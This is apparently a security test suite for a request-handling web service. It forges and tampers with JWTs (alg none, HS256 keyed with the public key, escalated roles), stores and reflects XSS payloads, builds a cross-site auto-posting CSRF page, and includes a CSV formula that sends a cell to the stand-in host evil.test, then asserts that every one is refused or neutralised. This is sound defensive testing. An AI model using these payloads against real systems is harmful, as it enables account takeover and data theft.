/**
 * Part 5, attacks over real HTTP against the local runtime: forged and misused bearer tokens on
 * every staff route; stored and reflected XSS shown escaped in the form, the status page, the
 * console and the CSV export (formula injection neutralised), with Chromium proving no script
 * runs; CSRF refused on the form and console actions (including a cross-site page auto-posting
 * in Chromium); security headers on every HTML answer; status pages unreadable without their
 * token; guessed request ids get nothing.
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { exportJWK, exportSPKI, generateKeyPair, importJWK, SignJWT, UnsecuredJWT, type JWK } from 'jose';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { chromiumAvailable, launchChromium } from '../browser/chromium';
import { auditDetail, clientAddress, confirmLink, freshEmail, mailedRequest, pool, printFigures, raw, readOutbox, startReliabilityRuntime, tally, verificationLinks, type RawResponse, type ReliabilityRuntime } from './harness';
import { flipSignatureCharacter } from '../support/tamper';

const failing = freshEmail('attack-fails');
let rt: ReliabilityRuntime;
const JSON_HEADERS = { 'content-type': 'application/json', accept: 'application/json' };
/** Scripts that would leave a mark if they ever ran: a dialog, a global flag, a request home. */
const MARK = (n: number) => `<script>window.__xss=${n};alert(${n})</script><img src=x onerror="window.__xss=${n};alert(${n})"><svg onload="alert(${n})">"'><iframe srcdoc="<script>parent.__xss=${n}</script>">`;
const CSV_FORMULA = `=HYPERLINK("http://evil.test/?"&A1,"click") ${MARK(1)}`;

beforeAll(async () => {
  rt = await startReliabilityRuntime({ simulator: { jobDurationMs: 200, failUsers: [failing] } });
});
afterAll(async () => rt?.close());

async function submit(email: string, i: number): Promise<{ requestId: string; statusUrl: string; verifyUrl?: string }> {
  const r = await raw(`${rt.url}/requests`, { method: 'POST', from: clientAddress(40_000 + i), headers: JSON_HEADERS, body: JSON.stringify({ email }) });
  if (r.status !== 202) throw new Error(`submit answered ${r.status}`);
  return mailedRequest(rt.url, email);
}

async function waitStatus(id: string, status: string): Promise<void> {
  const until = Date.now() + 30_000;
  while (Date.now() < until) {
    if ((await auditDetail(rt.url, rt.auditorToken, id)).request.status === status) return rt.idle();
    await new Promise((r) => setTimeout(r, 100));
  }
  throw new Error(`${id} never reached ${status}`);
}

/** The bad tokens: forged, expired, mis-addressed, confused algorithms, stolen from elsewhere. */
async function tokenAttacks(): Promise<Record<string, string | undefined>> {
  const privateJwk = JSON.parse(readFileSync(join(rt.dataDir, 'dev-issuer', 'private.jwk.json'), 'utf8')) as JWK;
  const publicJwk = JSON.parse(readFileSync(join(rt.dataDir, 'dev-issuer', 'public.jwk.json'), 'utf8')) as JWK;
  const key = await importJWK(privateJwk, 'RS256');
  const publicKey = await importJWK(publicJwk, 'RS256');
  const other = await generateKeyPair('RS256', { extractable: true });
  const kid = publicJwk.kid!;
  const iss = rt.devIssuer.issuer;
  const aud = rt.devIssuer.audience;
  const now = Math.floor(Date.now() / 1000);
  const claims = (roles: string[] = ['ops']) => new SignJWT({ 'cognito:groups': roles }).setIssuer(iss).setAudience(aud).setSubject('attacker').setIssuedAt(now).setExpirationTime(now + 600);
  const valid = await rt.devIssuer.issueToken('auditor', 'attacker');
  const [h, p, s] = valid.split('.');
  const escalated = JSON.stringify({ ...(JSON.parse(Buffer.from(p!, 'base64url').toString()) as object), 'cognito:groups': ['ops'] });
  return {
    missing: undefined,
    empty: '',
    garbage: 'not-a-jwt',
    'three dots': '...',
    expired: await claims().setProtectedHeader({ alg: 'RS256', kid }).setIssuedAt(now - 7200).setExpirationTime(now - 3600).sign(key),
    'not yet valid': await claims().setProtectedHeader({ alg: 'RS256', kid }).setNotBefore(now + 3600).sign(key),
    'wrong issuer': await claims().setProtectedHeader({ alg: 'RS256', kid }).setIssuer('https://evil.test').sign(key),
    'wrong audience': await claims().setProtectedHeader({ alg: 'RS256', kid }).setAudience('another-app').sign(key),
    'no audience': await new SignJWT({ 'cognito:groups': ['ops'] }).setProtectedHeader({ alg: 'RS256', kid }).setIssuer(iss).setSubject('attacker').setIssuedAt(now).setExpirationTime(now + 600).sign(key),
    'alg none': new UnsecuredJWT({ 'cognito:groups': ['ops'] }).setIssuer(iss).setAudience(aud).setSubject('attacker').setIssuedAt(now).setExpirationTime(now + 600).encode(),
    'HS256 keyed with the public key PEM': await claims().setProtectedHeader({ alg: 'HS256', kid }).sign(new TextEncoder().encode(await exportSPKI(publicKey as Parameters<typeof exportSPKI>[0]))),
    'HS256 keyed with the public JWK': await claims().setProtectedHeader({ alg: 'HS256', kid }).sign(new TextEncoder().encode(JSON.stringify(publicJwk))),
    'unknown kid': await claims().setProtectedHeader({ alg: 'RS256', kid: 'k-other' }).sign(other.privateKey),
    'another key with the known kid': await claims().setProtectedHeader({ alg: 'RS256', kid }).sign(other.privateKey),
    'embedded jwk': await claims().setProtectedHeader({ alg: 'RS256', jwk: await exportJWK(other.publicKey) }).sign(other.privateKey),
    'role escalated, signature kept': `${h}.${Buffer.from(escalated).toString('base64url')}.${s}`,
    'signature stripped': `${h}.${p}.`,
    'huge token': `${'a'.repeat(60_000)}.${'b'.repeat(60_000)}.c`,
  };
}

const ID = '0190a1b2-c3d4-7e5f-8a9b-0c1d2e3f4a5b';
function staffRoutes(id: string): { method: string; path: string; body?: string; needs: 'read' | 'act' }[] {
  const reason = JSON.stringify({ reason: 'attack' });
  return [
    { method: 'GET', path: '/audit/requests', needs: 'read' },
    { method: 'GET', path: `/audit/requests/${id}`, needs: 'read' },
    { method: 'GET', path: '/audit/export?format=csv', needs: 'read' },
    { method: 'GET', path: '/audit/export?format=json', needs: 'read' },
    { method: 'GET', path: '/audit/report', needs: 'read' },
    { method: 'GET', path: '/ops/requests?status=failed', needs: 'act' },
    { method: 'POST', path: '/ops/requests', body: JSON.stringify({ subjectId: 'victim@example.com', reason: 'attacker on behalf', identityCheckedBy: 'nobody' }), needs: 'act' },
    { method: 'POST', path: `/ops/requests/${id}/retry`, body: reason, needs: 'act' },
    { method: 'POST', path: `/ops/requests/${id}/cancel`, body: reason, needs: 'act' },
    { method: 'POST', path: `/ops/requests/${id}/recheck`, body: reason, needs: 'act' },
    { method: 'POST', path: `/ops/requests/${id}/extend`, body: reason, needs: 'act' },
    { method: 'POST', path: '/ops/retry', body: JSON.stringify({ ids: [id], reason: 'attack' }), needs: 'act' },
    { method: 'POST', path: '/ops/roles/refresh', body: reason, needs: 'act' },
    { method: 'GET', path: '/console', needs: 'read' },
    { method: 'GET', path: `/console/requests/${id}`, needs: 'read' },
    { method: 'GET', path: '/console/export?format=csv', needs: 'read' },
    { method: 'POST', path: `/console/requests/${id}/cancel`, body: 'confirm=yes&reason=attack', needs: 'act' },
  ];
}

const HTML_HEADER_RULES: [string, (v: string | undefined) => boolean][] = [
  ['content-security-policy', (v) => !!v && /default-src 'none'/.test(v) && /frame-ancestors 'none'/.test(v) && !/unsafe-inline|unsafe-eval/.test(v) && !/script-src/.test(v ?? '')],
  ['strict-transport-security', (v) => !!v && /max-age=\d{7,}/.test(v)],
  ['x-content-type-options', (v) => v === 'nosniff'],
  ['referrer-policy', (v) => v === 'no-referrer' || v === 'same-origin' || v === 'strict-origin'],
];
function headerProblems(name: string, r: RawResponse): string[] {
  return HTML_HEADER_RULES.filter(([h, ok]) => !ok(r.header(h))).map(([h]) => `${name}: ${h}=${r.header(h) ?? 'absent'}`);
}

describe('attacks', () => {
  it('refuses every forged, expired, mis-addressed or misused token on every staff route, and changes nothing', async () => {
    const { requestId, verifyUrl } = await submit(failing, 0);
    expect((await confirmLink(verifyUrl!)).status).toBe(303);
    await waitStatus(requestId, 'FAILED');
    const before = await auditDetail(rt.url, rt.auditorToken, requestId);

    const attacks = await tokenAttacks();
    const auditor = rt.auditorToken;
    const noRole = await rt.devIssuer.issueToken('none' as never, 'nobody');
    const cases: { name: string; route: ReturnType<typeof staffRoutes>[number]; headers: Record<string, string>; expect: number[] }[] = [];
    for (const route of staffRoutes(requestId)) {
      for (const [name, token] of Object.entries(attacks)) {
        cases.push({ name, route, headers: token === undefined ? {} : { authorization: `Bearer ${token}` }, expect: [401] });
      }
      cases.push({ name: 'token in the query string', route: { ...route, path: `${route.path}${route.path.includes('?') ? '&' : '?'}access_token=${rt.opsToken}` }, headers: {}, expect: [401] });
      cases.push({ name: 'token as a cookie on the API', route, headers: { cookie: `token=${rt.opsToken}; session=${rt.opsToken}` }, expect: [401] });
      cases.push({ name: 'Basic scheme', route, headers: { authorization: `Basic ${Buffer.from(`ops:${rt.opsToken}`).toString('base64')}` }, expect: [401] });
      cases.push({ name: 'valid token without a role', route, headers: { authorization: `Bearer ${noRole}` }, expect: [403] });
      if (route.needs === 'act') cases.push({ name: 'auditor on an ops action', route, headers: { authorization: `Bearer ${auditor}` }, expect: [403] });
    }
    const results = await pool(cases, 12, async (c) => {
      const isConsole = c.route.path.startsWith('/console');
      const contentType = isConsole ? 'application/x-www-form-urlencoded' : 'application/json';
      const r = await raw(`${rt.url}${c.route.path}`, { method: c.route.method, headers: { ...c.headers, ...(c.route.body ? { 'content-type': contentType } : {}) }, body: c.route.body });
      const type = r.header('content-type') ?? '';
      // The console answers a stranger with its sign-in page (200 for a bare GET of the start page).
      const signIn = isConsole && type.startsWith('text/html') && /name="token"/.test(r.text);
      // A header block too large for the server is refused before any handler runs (431).
      const tooLarge = c.name === 'huge token' && r.status === 431;
      const bareConsoleGet = c.route.method === 'GET' && /^\/console(\?|$)/.test(c.route.path);
      const ok = tooLarge || c.expect.includes(r.status) || (isConsole && signIn && c.expect.includes(401) && (r.status === 401 || (r.status === 200 && bareConsoleGet)));
      const leaked = r.text.includes(requestId) && !isConsole;
      return { c, status: r.status, ok: ok && !leaked && (tooLarge || isConsole || type.startsWith('application/problem+json')) };
    });
    const after = await auditDetail(rt.url, rt.auditorToken, requestId);
    const list = JSON.parse((await raw(`${rt.url}/audit/requests?limit=500`, { headers: { authorization: `Bearer ${auditor}` } })).text) as { items: unknown[] };
    const bad = results.filter((r) => !r.ok).map((r) => `${r.c.route.method} ${r.c.route.path} with ${r.c.name}: ${r.status}`);
    printFigures('attacks / tokens', {
      staffRoutes: staffRoutes(requestId).length,
      tokenAttacks: Object.keys(attacks).length + 5,
      casesTried: cases.length,
      answers: tally(results.map((r) => String(r.status))),
      accepted: bad.length,
      eventsBefore: before.timeline.length,
      eventsAfter: after.timeline.length,
    });
    expect(bad).toEqual([]);
    expect(after.timeline.length).toBe(before.timeline.length);
    expect(after.request.status).toBe('FAILED');
    expect(list.items).toHaveLength(1);
  });

  it('keeps status pages behind their token and gives nothing to guessed request ids', async () => {
    const emailA = freshEmail('status-a');
    const a = await submit(emailA, 1);
    const b = await submit(freshEmail('status-b'), 2);
    // Typing someone's address again is no way in either: the answer is the one a fresh address gets.
    const post = (email: string, i: number) => raw(`${rt.url}/requests`, { method: 'POST', from: clientAddress(40_100 + i), headers: JSON_HEADERS, body: JSON.stringify({ email }) });
    const [retyped, stranger] = [await post(emailA, 1), await post(freshEmail('status-c'), 2)];
    expect([retyped.status, retyped.text]).toEqual([202, stranger.text]);
    expect(retyped.text).not.toContain(a.requestId);
    const tokenA = new URL(a.statusUrl).searchParams.get('token')!;
    const tokenB = new URL(b.statusUrl).searchParams.get('token')!;
    const json = { accept: 'application/json' };
    const html = { accept: 'text/html' };
    const hex = (n: number) => [...Array(n)].map(() => Math.floor(Math.random() * 16).toString(16)).join('');
    // Guesses: ids sharing the real id's time prefix (UUIDv7), random ids, and the real ones with others' tokens.
    const guesses = Array.from({ length: 200 }, () => `${a.requestId.slice(0, 15)}${hex(3)}-${['8', '9', 'a', 'b'][Math.floor(Math.random() * 4)]}${hex(3)}-${hex(12)}`);
    const probes: [string, string, Record<string, string>][] = [
      ['no token', `/requests/${a.requestId}`, json],
      ['empty token', `/requests/${a.requestId}?token=`, json],
      ["another request's token", `/requests/${a.requestId}?token=${encodeURIComponent(tokenB)}`, json],
      ['token cut short', `/requests/${a.requestId}?token=${encodeURIComponent(tokenA.slice(0, -5))}`, json],
      ['token with a flipped character', `/requests/${a.requestId}?token=${encodeURIComponent(flipSignatureCharacter(tokenA))}`, json],
      ['the verification token instead', `/requests/${a.requestId}?token=${encodeURIComponent(new URL(verificationLinks(await readOutbox(rt.url)).get(a.requestId)!).searchParams.get('token')!)}`, json],
      ['no token, as a browser', `/requests/${a.requestId}`, html],
      ["another request's token, as a browser", `/requests/${a.requestId}?token=${encodeURIComponent(tokenB)}`, html],
      ...guesses.map((g, i): [string, string, Record<string, string>] => [`guessed id ${i}`, `/requests/${g}?token=${encodeURIComponent(i % 2 ? tokenA : tokenB)}`, json]),
    ];
    const answers = await pool(probes, 16, async ([name, path, headers]) => ({ name, r: await raw(`${rt.url}${path}`, { headers }) }));
    // No oracle: the answer for a real id without its token equals the answer for an id that does not exist.
    const shapes = new Set(answers.filter((x) => x.r.header('content-type')?.startsWith('application/problem+json')).map((x) => `${x.r.status} ${x.r.text}`));
    const leaks = answers.filter((x) => x.r.status < 400 || x.r.text.includes(a.requestId) || /AWAITING|VERIFICATION/.test(x.r.text) || x.r.text.includes(tokenA));
    const own = await raw(a.statusUrl, { headers: json });
    printFigures('attacks / status pages and guessed ids', { probes: probes.length, guessedIds: guesses.length, answers: tally(answers.map((x) => String(x.r.status))), distinctRefusals: shapes.size, leaks: leaks.length, ownTokenStatus: own.status });
    expect(leaks.map((x) => `${x.name}: ${x.r.status}`)).toEqual([]);
    expect(shapes.size).toBe(1);
    expect(own.status).toBe(200);
  });

  const browserReady = chromiumAvailable();
  describe.skipIf(!browserReady)('in Chromium', () => {
    let browser: Browser;
    let attacker: Server;
    let attackerUrl = '';
    let attackerPage = '';
    beforeAll(async () => {
      browser = await launchChromium();
      // A page on another site (localhost is not 127.0.0.1 to a browser) that auto-posts forms.
      attacker = createServer((_req, res) => {
        res.writeHead(200, { 'content-type': 'text/html' });
        res.end(attackerPage);
      });
      await new Promise<void>((r) => attacker.listen(0, '127.0.0.1', () => r()));
      attackerUrl = `http://localhost:${(attacker.address() as AddressInfo).port}/`;
    });
    afterAll(async () => {
      await browser?.close();
      await new Promise((r) => attacker?.close(r));
    });

    it('shows stored and reflected XSS payloads as text in the form, status page, console and CSV export, and runs no script', async () => {
      // Stored: an ops extension reason (shown to the subject and in the console and the export)
      // and an on-behalf submission's reason and identity note.
      const victim = await submit(freshEmail('xss'), 3);
      const ops = { authorization: `Bearer ${rt.opsToken}`, 'content-type': 'application/json' };
      const extended = await raw(`${rt.url}/ops/requests/${victim.requestId}/extend`, { method: 'POST', headers: ops, body: JSON.stringify({ reason: CSV_FORMULA }) });
      expect(extended.status).toBe(200);
      const onBehalf = await raw(`${rt.url}/ops/requests`, { method: 'POST', headers: ops, body: JSON.stringify({ subjectId: 'emp-1001', reason: `letter ${MARK(2)}`, identityCheckedBy: `desk ${MARK(3)}` }) });
      expect(onBehalf.status).toBe(202);
      const behalfId = (JSON.parse(onBehalf.text) as { requestId: string }).requestId;

      const context = await browser.newContext();
      const page = await context.newPage();
      const dialogs: string[] = [];
      const errors: string[] = [];
      page.on('dialog', (d) => {
        dialogs.push(d.message());
        void d.dismiss();
      });
      page.on('pageerror', (e) => errors.push(e.message));
      const ran = async () => page.evaluate(() => (globalThis as unknown as { __xss?: number }).__xss);
      const visited: { name: string; ran: unknown; shownAsText: boolean; headers: string[] }[] = [];
      const visit = async (name: string, url: string, expectText = true) => {
        const response = await page.goto(url);
        const text = (await page.textContent('body')) ?? '';
        const hdrs = await response!.allHeaders();
        visited.push({
          name,
          ran: await ran(),
          shownAsText: !expectText || text.includes('<script>window.__xss'),
          headers: headerProblems(name, { status: response!.status(), headers: hdrs, text: '', header: (n) => hdrs[n] }),
        });
      };

      // Reflected: the form re-shown with the bad input, error pages with hostile paths and queries.
      await page.goto(`${rt.url}/`);
      await page.getByLabel(/email/i).first().fill(`"><script>window.__xss=9;alert(9)</script>@x`);
      await page.getByRole('button', { name: /send my request/i }).click();
      visited.push({ name: 'form re-shown (422)', ran: await ran(), shownAsText: ((await page.inputValue('input[name="email"]')) ?? '').includes('<script>'), headers: [] });
      await visit('status page (stored, extension reason)', victim.statusUrl);
      await visit('status page of a hostile id', `${rt.url}/requests/%3Cscript%3Ealert(4)%3C%2Fscript%3E?token=%3Cscript%3E`, false);
      await visit('verify with a hostile token', `${rt.url}/verify?token=%22%3E%3Cscript%3Ealert(5)%3C%2Fscript%3E`, false);
      await visit('unknown page with a hostile path', `${rt.url}/%3Cscript%3Ealert(6)%3C%2Fscript%3E`, false);

      // The console, signed in through its own page with an ops token.
      await page.goto(`${rt.url}/console`);
      await page.fill('textarea[name="token"]', rt.opsToken);
      await page.locator('form[action$="/login"] button, form[action$="/login"] input[type="submit"]').first().click();
      await page.waitForURL(/\/console$/);
      await visit('console request (extension reason)', `${rt.url}/console/requests/${victim.requestId}`);
      await visit('console request (on-behalf reason and identity note)', `${rt.url}/console/requests/${behalfId}`, false);
      const behalfText = (await page.textContent('body')) ?? '';
      visited.at(-1)!.shownAsText = behalfText.includes('<script>window.__xss=2') || behalfText.includes('letter <script>');
      await visit('console list with a hostile filter', `${rt.url}/console/requests?status=%3Cscript%3Ealert(7)%3C%2Fscript%3E`, false);
      await visit('console dashboard', `${rt.url}/console`, false);
      await visit('console 404 with a hostile path', `${rt.url}/console/requests/%3Cscript%3Ealert(8)%3C%2Fscript%3E`, false);

      // The CSV export: the formula neutralised, served as an attachment that no browser renders.
      const csv = await raw(`${rt.url}/audit/export?format=csv`, { headers: { authorization: `Bearer ${rt.auditorToken}` } });
      const cell = csv.text.split('\r\n').find((l) => l.startsWith(victim.requestId))!;
      const consoleCsv = await page.request.get(`${rt.url}/console/export?format=csv`);
      const consoleCell = (await consoleCsv.text()).split('\r\n').find((l) => l.startsWith(victim.requestId)) ?? '';
      await context.close();

      printFigures('attacks / XSS', {
        pagesChecked: visited.length,
        scriptsRun: visited.filter((v) => v.ran !== undefined).length + dialogs.length,
        dialogs: dialogs.length,
        payloadsShownAsText: visited.filter((v) => v.shownAsText).length,
        csvFormulaNeutralised: cell.includes(`"'=HYPERLINK`) || cell.includes(`'=HYPERLINK`),
        headerProblems: visited.flatMap((v) => v.headers).length,
      });
      expect(dialogs).toEqual([]);
      expect(visited.filter((v) => v.ran !== undefined).map((v) => v.name)).toEqual([]);
      expect(visited.filter((v) => !v.shownAsText).map((v) => v.name)).toEqual([]);
      expect(visited.flatMap((v) => v.headers)).toEqual([]);
      expect(csv.header('content-disposition')).toMatch(/^attachment/);
      expect(csv.header('content-type')).toMatch(/^text\/csv/);
      expect(cell).toMatch(/(^|,)"?'=HYPERLINK/);
      expect(consoleCell).toMatch(/(^|,)"?'=HYPERLINK/);
      expect(consoleCsv.headers()['content-disposition']).toMatch(/^attachment/);
    });

    it('refuses cross-site form posts and console actions, and requests without the CSRF token', async () => {
      // Plain HTTP first: no token, a token without its cookie, a mismatched pair, a cross-site fetch.
      const form = await raw(`${rt.url}/`, { headers: { accept: 'text/html' } });
      const csrf = /name="csrf" value="([^"]+)"/.exec(form.text)![1]!;
      const cookie = String(form.headers['set-cookie']).split(';')[0]!;
      const other = await raw(`${rt.url}/`, { headers: { accept: 'text/html' } });
      const otherCsrf = /name="csrf" value="([^"]+)"/.exec(other.text)![1]!;
      const post = (headers: Record<string, string>, body: string, i: number) =>
        raw(`${rt.url}/requests`, { method: 'POST', from: clientAddress(41_000 + i), headers: { 'content-type': 'application/x-www-form-urlencoded', accept: 'application/json', ...headers }, body });
      const email = (i: number) => encodeURIComponent(`csrf-${i}-${Date.now()}@example.com`);
      const formAnswers = [
        await post({}, `email=${email(1)}`, 1),
        await post({}, `csrf=${encodeURIComponent(csrf)}&email=${email(2)}`, 2),
        await post({ cookie }, `email=${email(3)}`, 3),
        await post({ cookie }, `csrf=${encodeURIComponent(otherCsrf)}&email=${email(4)}`, 4),
        await post({ cookie, 'sec-fetch-site': 'cross-site' }, `csrf=${encodeURIComponent(csrf)}&email=${email(5)}`, 5),
        await post({ cookie }, `csrf=${encodeURIComponent(csrf.slice(0, -3))}&email=${email(6)}`, 6),
      ];
      const control = await post({ cookie }, `csrf=${encodeURIComponent(csrf)}&email=${email(7)}`, 7);

      // A request to act on, and a signed-in console session in Chromium.
      const { requestId } = await submit(freshEmail('csrf-target'), 8);
      const context = await browser.newContext();
      const page = await context.newPage();
      await page.goto(`${rt.url}/console`);
      await page.fill('textarea[name="token"]', rt.opsToken);
      await page.locator('form[action$="/login"] button, form[action$="/login"] input[type="submit"]').first().click();
      await page.waitForURL(/\/console$/);
      const cookies = await context.cookies(`${rt.url}/console`);
      const session = cookies.map((c) => `${c.name}=${c.value}`).join('; ');

      // Over HTTP with the session cookie but without / with a wrong CSRF field.
      const consoleAnswers = [
        await raw(`${rt.url}/console/requests/${requestId}/cancel`, { method: 'POST', headers: { cookie: session, 'content-type': 'application/x-www-form-urlencoded' }, body: 'confirm=yes&reason=csrf' }),
        await raw(`${rt.url}/console/requests/${requestId}/cancel`, { method: 'POST', headers: { cookie: session, 'content-type': 'application/x-www-form-urlencoded' }, body: `confirm=yes&reason=csrf&csrf=${encodeURIComponent(csrf)}` }),
      ];
      // In Chromium: an attacker's page auto-posts to the form and to a console action.
      attackerPage = `<!doctype html><form id=a method=post action="${rt.url}/console/requests/${requestId}/cancel"><input name=confirm value=yes><input name=reason value=csrf></form>
        <form id=b method=post action="${rt.url}/requests" target=f><input name=email value="csrf-browser@example.com"></form><iframe name=f></iframe>
        <script>document.getElementById('b').submit();setTimeout(()=>document.getElementById('a').submit(),300)</script>`;
      const posted: { url: string; status: number }[] = [];
      page.on('response', (r) => {
        if (r.request().method() === 'POST') posted.push({ url: r.url(), status: r.status() });
      });
      await page.goto(attackerUrl);
      await page.waitForURL(/\/console\/requests\//, { timeout: 10_000 }).catch(() => undefined);
      await page.waitForTimeout(500);
      await context.close();

      const detail = await auditDetail(rt.url, rt.auditorToken, requestId);
      const browserForm = JSON.parse((await raw(`${rt.url}/audit/requests?subject=csrf-browser%40example.com`, { headers: { authorization: `Bearer ${rt.auditorToken}` } })).text) as { items: unknown[] };
      printFigures('attacks / CSRF', {
        formAttempts: formAnswers.length,
        formAnswers: tally(formAnswers.map((r) => String(r.status))),
        controlWithToken: control.status,
        consoleAttempts: consoleAnswers.length,
        consoleAnswers: tally(consoleAnswers.map((r) => String(r.status))),
        crossSitePostsInChromium: posted.map((p) => `${new URL(p.url).pathname.replace(requestId, '{id}')} → ${p.status}`),
        requestStillOpen: detail.request.status,
        crossSiteSubmissionsStored: browserForm.items.length,
      });
      expect(formAnswers.map((r) => r.status)).toEqual([403, 403, 403, 403, 403, 403]);
      expect(formAnswers.every((r) => r.header('content-type')?.startsWith('application/problem+json'))).toBe(true);
      expect(control.status).toBe(303);
      expect(consoleAnswers.map((r) => r.status)).toEqual([403, 403]);
      expect(posted.length).toBeGreaterThanOrEqual(2);
      expect(posted.every((p) => p.status === 403 || p.status === 401)).toBe(true);
      expect(detail.request.status).toBe('AWAITING_VERIFICATION');
      expect(detail.timeline.some((e) => e.type === 'REQUEST_CANCELLED')).toBe(false);
      expect(browserForm.items).toEqual([]);
    });
  });

  it('sends the security headers on every HTML answer', async () => {
    const { requestId, statusUrl, verifyUrl } = await submit(freshEmail('headers'), 9);
    const bearer = { authorization: `Bearer ${rt.opsToken}` };
    const html = { accept: 'text/html' };
    const pages: [string, string, Record<string, string>, string?, string?][] = [
      ['form', '/', html],
      ['form re-shown (CSRF refused)', '/requests', html, 'POST', 'email=x'],
      ['status page', new URL(statusUrl).pathname + new URL(statusUrl).search, html],
      ['status page refused', `/requests/${requestId}`, html],
      ['check-email page', '/check-email', html],
      ['confirmation page', new URL(verifyUrl!).pathname + new URL(verifyUrl!).search, html],
      ['verify refused', '/verify?token=bad', html],
      ['404 page', '/nowhere', html],
      ['405 page', '/check-email', html, 'POST', ''],
      ['console sign-in', '/console', html],
      ['console refused token', '/console', { ...html, authorization: 'Bearer bad' }],
      ['console dashboard', '/console', { ...html, ...bearer }],
      ['console list', '/console/requests', { ...html, ...bearer }],
      ['console request', `/console/requests/${requestId}`, { ...html, ...bearer }],
      ['console 404', '/console/nowhere', { ...html, ...bearer }],
      ['console bad filter', '/console/requests?from=nope', { ...html, ...bearer }],
      ['console action refused', `/console/requests/${requestId}/retry`, { ...html, ...bearer }, 'POST', 'confirm=no'],
    ];
    const problems: string[] = [];
    const statuses: string[] = [];
    for (const [name, path, headers, method, body] of pages) {
      const r = await raw(`${rt.url}${path}`, { method: method ?? 'GET', headers: { ...headers, ...(body !== undefined ? { 'content-type': 'application/x-www-form-urlencoded' } : {}) }, body });
      statuses.push(`${name}: ${r.status}`);
      if (!r.header('content-type')?.startsWith('text/html')) problems.push(`${name}: not HTML (${r.status} ${r.header('content-type')})`);
      else problems.push(...headerProblems(name, r));
    }
    // The local-only outbox page (infra/local/runtime.ts) is reported, not required: it never exists in AWS.
    const outbox = await raw(`${rt.url}/dev/outbox`, { headers: html });
    printFigures('attacks / security headers', { htmlAnswersChecked: pages.length, problems: problems.length, statuses, localOutboxPage: headerProblems('outbox', outbox) });
    expect(problems).toEqual([]);
  });
});
